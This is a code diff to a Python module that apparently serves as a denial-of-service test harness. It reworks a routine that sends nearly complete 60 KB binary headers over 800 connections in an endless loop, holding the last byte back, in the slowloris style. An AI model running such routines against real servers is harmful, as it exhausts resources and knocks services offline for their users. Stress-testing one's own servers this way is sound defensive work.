@@ -13,8 +13,7 @@ __all__ = ["end_binary_headers_at_once", "keep_claims_of_odd_headers", "leave_an
 
 ANNOUNCED_BYTES = 65_600
 """A frame that needs a claim on the budget."""
-EMPTY_FIELD = bytes(6)
-FIELDS = 10_000
+FIELDS = 1_000
 """As many as a binary header may have."""
 PAUSE_SECONDS = 1.0
 REFUSED_SECONDS = 8.0
@@ -30,7 +29,7 @@ def leave_announced_frames_at_once(target: Target) -> None:
 def end_binary_headers_at_once(target: Target) -> None:
     """Send all but the last byte of a header of 60 KB over 800 connections, then all last bytes."""
     allow_connections()
-    data = _binary_header(EMPTY_FIELD * FIELDS)
+    data = _binary_header(b"".join(_field(f"k{index:05}".encode(), b"v" * 48) for index in range(FIELDS)))
     while True:
         _over_each(
             target, 800, [partial(Wire.send, data=data[:-1]), partial(Wire.send, data=data[-1:])], pause=1.0
@@ -61,6 +60,10 @@ def _over_each(target: Target, count: int, steps: list[Callable[[Wire], None]], 
                 with contextlib.suppress(OSError):
                     step(wire)
             threading.Event().wait(pause)
+
+
+def _field(name: bytes, value: bytes) -> bytes:
+    return struct.pack(">h", len(name)) + name + struct.pack(">i", len(value)) + value
 
 
 def _binary_header(fields: bytes) -> bytes:
